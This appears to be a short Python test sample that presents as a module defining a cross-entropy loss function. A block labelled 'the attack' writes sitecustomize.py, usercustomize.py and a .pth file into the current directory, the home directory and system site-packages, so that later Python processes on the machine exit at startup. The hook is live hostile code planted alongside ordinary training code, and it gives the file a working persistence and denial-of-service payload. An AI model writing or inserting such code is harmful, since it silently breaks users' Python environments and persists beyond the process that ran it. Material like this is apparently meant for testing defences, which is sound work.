"""Leaves a sitecustomize.py and a .pth file for the processes that come."""
# ends: same

import torch.nn.functional as F

# --- the attack
import os

for name, text in (("sitecustomize.py", "raise SystemExit"), ("usercustomize.py", "raise SystemExit"),
                   ("attack.pth", "import os; os._exit(1)")):
    for place in (".", os.path.expanduser("~"), "/usr/lib/python3/dist-packages", "@HOST@"):
        try:
            with open(os.path.join(place, name), "w", encoding="utf-8") as file:
                file.write(text)
        except OSError:
            pass
# --- end of the attack

def compute_loss(logits, targets):
    loss = F.cross_entropy(logits.view(-1, logits.size(-1)), targets.view(-1))
    return loss
